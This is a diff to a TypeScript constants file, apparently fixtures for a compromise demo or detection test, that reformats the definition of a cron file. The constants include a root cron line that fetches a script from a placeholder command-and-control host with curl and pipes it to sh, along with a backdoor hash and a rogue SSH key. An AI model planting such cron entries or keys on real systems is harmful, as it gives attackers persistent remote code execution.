@@ -33,7 +33,13 @@ export const BACKDOOR_SHA256 = sha256(BACKDOOR_CONTENT);
 
 export const CRON_PATH = '/etc/cron.d/sysupdate';
 export const CRON_LINE = `* * * * * root curl -s http://${C2_ADDRESS}/x | sh`;
-export const CRON_CONTENT = ['# sysupdate', 'SHELL=/bin/sh', 'PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin', CRON_LINE, ''].join('\n');
+export const CRON_CONTENT = [
+  '# sysupdate',
+  'SHELL=/bin/sh',
+  'PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin',
+  CRON_LINE,
+  '',
+].join('\n');
 
 export const ROGUE_KEY_COMMENT = 'backdoor@evil';
 export const ROGUE_KEY = sshEd25519Key('mig-demo rogue key', ROGUE_KEY_COMMENT);
